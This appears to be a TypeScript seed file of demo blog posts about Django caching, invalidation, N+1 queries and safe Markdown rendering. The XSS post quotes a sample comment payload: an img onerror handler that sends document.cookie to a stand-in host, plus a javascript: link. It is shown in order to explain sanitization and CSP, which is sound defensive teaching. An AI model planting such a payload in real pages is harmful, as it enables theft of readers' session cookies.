import { type DemoPost } from '../types.js';

export const djangoPosts: DemoPost[] = [
  {
    slug: 'memoizing-expensive-django-functions-with-the-cache',
    title: 'Memoizing expensive Django functions with the cache framework',
    summary:
      'A decorator-based approach to cache memoization in Django: deterministic keys from arguments, invalidation per call, caching None correctly, and hit/miss hooks for metrics.',
    categories: ['django', 'python', 'web-performance'],
    status: 'PUBLISHED',
    publishedAt: '2024-01-21T12:30:00Z',
    body: `The home page of this blog used to run eleven queries: recent posts, category counts, the comment total for each post, and so on. The data changes a few times a day, yet it was computed on every request. Per-view caching was too blunt, because the page also shows whether you are signed in. What I wanted was memoization: cache the result of a *function*, keyed by its arguments, in Django's shared cache.

## The idea

\`\`\`python
from django.core.cache import cache

def recent_posts(limit: int):
    key = f"recent_posts:{limit}"
    result = cache.get(key)
    if result is None:
        result = list(Post.objects.published().order_by("-published_at")[:limit])
        cache.set(key, result, 60 * 10)
    return result
\`\`\`

This works, but it is repetitive, and it has a subtle bug: if the function legitimately returns \`None\`, every call is a miss.

## A decorator instead

The [django-cache-memoize](https://github.com/peterbe/django-cache-memoize) package wraps exactly this pattern. The only required argument is the time to live:

\`\`\`python
from cache_memoize import cache_memoize

@cache_memoize(60 * 10)
def recent_posts(limit: int):
    return list(Post.objects.published().order_by("-published_at")[:limit])
\`\`\`

The cache key is built from the function's module, name and arguments, so \`recent_posts(5)\` and \`recent_posts(10)\` are cached separately. A sentinel value is stored for \`None\`, so a cached \`None\` counts as a hit.

## Invalidation

Memoized functions get an \`invalidate\` method that takes the same arguments as the function:

\`\`\`python
recent_posts.invalidate(5)
\`\`\`

I call it from a \`post_save\` signal handler, wrapped in \`transaction.on_commit\` so that a reader never re-caches the old data between the write and the commit. Alternatively pass \`_refresh=True\` to a call to recompute and store a fresh value immediately.

## Options I actually use

| Option | Purpose |
| --- | --- |
| \`prefix\` | A stable key prefix, so renaming the function does not orphan keys |
| \`args_rewrite\` | Map arguments to what matters, e.g. a \`User\` to its id |
| \`hit_callable\` / \`miss_callable\` | Count hits and misses for metrics |
| \`store_result\` | Return a value without caching it, e.g. on partial results |
| \`cache_alias\` | Use a cache other than \`default\` |

\`args_rewrite\` deserves a note. Passing model instances as arguments gives keys based on their \`repr\`, which can change. Rewrite them to primary keys:

\`\`\`python
@cache_memoize(300, args_rewrite=lambda user: (user.pk,))
def unread_notifications(user):
    return user.notifications.filter(read=False).count()
\`\`\`

## Results

With the home page's expensive functions memoized against Redis, the median response time went from 48 ms to 9 ms, and the database went quiet. The per-call invalidation keeps the page correct within a second of an edit.

## Caveats

- Cached values must be picklable (with the default serializer). Querysets are lazy: wrap them in \`list()\` before returning.
- Memoization does not protect against a stampede when a popular key expires. For the hottest keys, refresh in the background before expiry.
- Keep TTLs bounded even when you invalidate explicitly; it limits the damage of a missed invalidation.
`,
    comments: [
      {
        key: 'c1',
        authorName: 'Olivia Brown',
        authorEmail: 'olivia.b@example.com',
        body: 'The `on_commit` detail is the part everyone gets wrong. We had stale sidebar counts for months because the signal handler ran before the transaction committed.',
        approved: true,
        hoursAfterPost: 11,
      },
    ],
  },
  {
    slug: 'invalidating-django-caches-with-signals-and-versioned-keys',
    title: 'Invalidating Django caches with signals and versioned keys',
    summary:
      'Two strategies for keeping cached pages fresh in Django: deleting keys from post_save and post_delete signals, and bumping a version number that is part of every key.',
    categories: ['django'],
    status: 'PUBLISHED',
    publishedAt: '2025-08-14T16:45:00Z',
    body: `There are two hard things in computer science, and in my experience cache invalidation is the one that wakes you up. Readers of this blog noticed it before I did: a corrected typo took ten minutes to appear, because the post page was cached and nothing told the cache. This post compares the two approaches I have used since.

## Approach 1: delete keys when data changes

Django's signals fire after a model is saved or deleted. A receiver can delete the keys that depend on that row:

\`\`\`python
from django.core.cache import cache
from django.db import transaction
from django.db.models.signals import post_delete, post_save
from django.dispatch import receiver

from .models import Post

@receiver([post_save, post_delete], sender=Post)
def forget_post_pages(sender, instance: Post, **kwargs):
    keys = [f"post:{instance.slug}", "home:recent", "feed:atom"]
    transaction.on_commit(lambda: cache.delete_many(keys))
\`\`\`

This is precise but requires knowing every key that depends on a post. Add a new cached fragment and forget to add its key here, and you have stale data again.

## Approach 2: versioned keys

Instead of finding every key, make the keys change. Keep a counter in the cache and put it into every key:

\`\`\`python
def content_version() -> int:
    return cache.get_or_set("content:version", 1, timeout=None)

def bump_content_version() -> None:
    try:
        cache.incr("content:version")
    except ValueError:  # key was evicted
        cache.set("content:version", 2, timeout=None)

def post_cache_key(slug: str) -> str:
    return f"v{content_version()}:post:{slug}"
\`\`\`

A save bumps the version; old keys are never read again and expire on their own. Template fragments can do the same: \`{% cache 600 sidebar content_version %}\` takes extra arguments that become part of the key.

## Comparing them

| | Delete keys | Versioned keys |
| --- | --- | --- |
| Precision | Only affected keys | Everything is invalidated |
| Risk of stale data | Forgotten keys | Almost none |
| Cost per write | A few deletes | One increment |
| Cache memory | Tidy | Old versions linger until TTL |

For a blog, writes are rare and the cache refills in seconds, so versioned keys win: simpler and harder to get wrong. For a shop with thousands of writes per minute, invalidating everything on every write would destroy the hit rate, and precise deletes are worth the bookkeeping.

## Signals, carefully

- Always defer cache work to \`transaction.on_commit\`. Otherwise a concurrent request can read the old row and cache it again between your delete and the commit.
- \`QuerySet.update()\` and \`bulk_create()\` do not send \`post_save\`. If your code uses them, invalidate explicitly.
- Keep receivers small and in a \`signals.py\` imported from \`AppConfig.ready()\`, so they are registered exactly once.

The [cache framework documentation](https://docs.djangoproject.com/en/stable/topics/cache/) explains key versioning (\`VERSION\` and \`KEY_FUNCTION\`), which offers a global variant of the same trick.
`,
    comments: [],
  },
  {
    slug: 'rendering-user-markdown-safely-and-preventing-xss',
    title: 'Rendering user Markdown safely: sanitizing HTML to prevent XSS',
    summary:
      'Why Markdown from comments is a cross-site scripting risk, and how to render it safely with markdown-it-py and nh3 allow-lists, safe links, and a Content Security Policy as a second line of defence.',
    categories: ['django', 'python', 'browsers'],
    status: 'PUBLISHED',
    publishedAt: '2025-10-22T09:00:00Z',
    body: `Comments on this blog are written in Markdown. Markdown is convenient, but it allows raw HTML by design, and most renderers pass links through unchanged. Without care, a comment like the one below runs JavaScript in every reader's browser: a stored cross-site scripting (XSS) vulnerability.

\`\`\`markdown
Nice post! <img src=x onerror="fetch('https://evil.example.org/?c='+document.cookie)">

[Click for details](javascript:alert(document.domain))
\`\`\`

## Rule 1: sanitize after rendering

It is tempting to escape the Markdown input, but that breaks code blocks and quotes. The reliable order is: render Markdown to HTML, then sanitize the HTML against an allow-list of tags and attributes. I use [markdown-it-py](https://markdown-it-py.readthedocs.io/) to render and [nh3](https://nh3.readthedocs.io/) (Python bindings to the Rust \`ammonia\` crate) to sanitize:

\`\`\`python
import nh3
from markdown_it import MarkdownIt

md = MarkdownIt("commonmark", {"html": False}).enable("table")

ALLOWED_TAGS = {"p", "em", "strong", "code", "pre", "a", "ul", "ol", "li",
                "blockquote", "table", "thead", "tbody", "tr", "th", "td", "br"}

def render_comment(source: str) -> str:
    html = md.render(source)
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes={"a": {"href", "title"}, "code": {"class"}},
        url_schemes={"http", "https", "mailto"},
        link_rel="nofollow ugc noopener",
    )
\`\`\`

Setting \`"html": False\` makes the renderer escape raw HTML, and nh3 is the safety net in case a future plugin produces something unexpected. The \`url_schemes\` set drops \`javascript:\` and \`data:\` links. \`link_rel\` marks every link so search engines do not reward comment spam.

## Rule 2: never trust the template

In Django, the rendered HTML must be marked safe to be shown, and that is the exact moment to be suspicious:

\`\`\`python
from django.utils.safestring import mark_safe

comment.body_html = mark_safe(render_comment(comment.body))
\`\`\`

I keep \`mark_safe\` in a single function, with a test that feeds it a list of known XSS payloads and asserts that no \`<script\`, \`on*=\` attribute or \`javascript:\` URL survives.

## Rule 3: defence in depth with CSP

Even with a sanitizer, a Content Security Policy limits the damage of a mistake. Mine forbids inline scripts entirely:

\`\`\`
Content-Security-Policy: default-src 'self'; script-src 'self'; object-src 'none'; base-uri 'none'
\`\`\`

With that header, an \`onerror\` attribute that slips through is blocked by the browser, and Firefox's console reports the violation so I find out about it.

## What I test

- The payload list from the [OWASP XSS prevention cheat sheet](https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html).
- Code blocks containing HTML stay escaped: \`\` \`<script>\` \`\` is shown, not run.
- Links keep their text when the URL is dropped.

Rendering and sanitizing are cheap but not free, so I store the rendered HTML next to the source and render again only when a comment is edited.
`,
    comments: [
      {
        key: 'c1',
        authorName: 'Nadia Haddad',
        authorEmail: 'nadia.h@example.org',
        body: 'Good call on sanitizing after rendering. We used to run bleach on the input and then wondered why every code sample showed `&amp;lt;`.',
        approved: true,
        hoursAfterPost: 1,
      },
      {
        key: 'c2',
        authorName: 'Peter Lindqvist',
        authorEmail: 'peter.l@example.com',
        body: 'bleach being deprecated was a pain; nh3 was almost a drop-in replacement for us and a lot faster.',
        approved: true,
        hoursAfterPost: 22,
      },
      {
        key: 'c3',
        authorName: 'SEO Booster',
        authorEmail: 'links@spam.example.org',
        body: 'Best backlinks here [buy backlinks](https://backlinks.example.org) and also [rank #1 fast](https://rank-fast.example.org)!!',
        approved: false,
        hoursAfterPost: 23,
      },
    ],
  },
  {
    slug: 'fixing-n-plus-one-queries-with-select-related-and-prefetch-related',
    title: 'Fixing N+1 queries in Django with select_related and prefetch_related',
    summary:
      'How to spot the N+1 query problem in Django, when to use select_related (joins) versus prefetch_related (a second query), Prefetch objects, and a test that keeps the query count fixed.',
    categories: ['django', 'postgresql'],
    status: 'PUBLISHED',
    publishedAt: '2024-11-05T18:25:00Z',
    body: `The category page of this blog lists twenty posts with their author, their categories and their comment count. One day I looked at the debug toolbar and counted 62 queries for that page. That is the N+1 problem: one query for the list, then one more query per row for each relation the template touches.

## Spotting it

The template looked innocent:

\`\`\`django
{% for post in posts %}
  <h2>{{ post.title }}</h2>
  <p>by {{ post.author.name }} in
    {% for category in post.categories.all %}{{ category.name }} {% endfor %}
  </p>
{% endfor %}
\`\`\`

\`post.author\` triggers a query per post, and \`post.categories.all\` another. In development, [django-debug-toolbar](https://django-debug-toolbar.readthedocs.io/) shows the duplicated queries; in tests, \`assertNumQueries\` catches them (more below).

## select_related: join in the same query

For forward foreign keys and one-to-one relations, \`select_related\` adds a SQL \`JOIN\` and fills the related objects from the same rows:

\`\`\`python
posts = Post.objects.select_related("author").filter(status="published")
\`\`\`

## prefetch_related: one extra query per relation

Many-to-many and reverse foreign keys would multiply rows in a join, so \`prefetch_related\` runs a second query with \`WHERE id IN (...)\` and stitches the results together in Python:

\`\`\`python
from django.db.models import Count, Prefetch, Q

posts = (
    Post.objects.filter(status="published")
    .select_related("author")
    .prefetch_related(
        Prefetch("categories", queryset=Category.objects.order_by("name"))
    )
    .annotate(comment_count=Count("comments", filter=Q(comments__approved=True)))
    .order_by("-published_at")[:20]
)
\`\`\`

The page now runs three queries whatever the number of posts: the posts (with authors joined and the count annotated), and the categories.

| Technique | Relation types | SQL |
| --- | --- | --- |
| \`select_related\` | ForeignKey, OneToOne (forward) | \`JOIN\` in the same query |
| \`prefetch_related\` | ManyToMany, reverse ForeignKey | Second query with \`IN (...)\` |
| \`annotate(Count(...))\` | Aggregates per row | \`GROUP BY\` in the same query |

## Watch out for

- Calling \`.filter()\` on a prefetched relation inside the loop ignores the prefetch and queries again. Use a \`Prefetch\` object with the filtered queryset instead.
- Combining \`annotate(Count(...))\` with several joins can inflate counts. Add \`distinct=True\` to \`Count\` when joining more than one multi-valued relation.
- On PostgreSQL, very large \`IN\` lists are fine up to many thousands of ids; beyond that, paginate.

## Keeping it fixed with a test

\`\`\`python
def test_category_page_query_count(client, django_assert_num_queries, make_posts):
    make_posts(30)
    with django_assert_num_queries(3):
        client.get("/category/python/")
\`\`\`

The test fails the day someone adds \`{{ post.author.avatar.url }}\` to the template without updating the queryset, which is exactly when I want to know.
`,
    comments: [],
  },
];
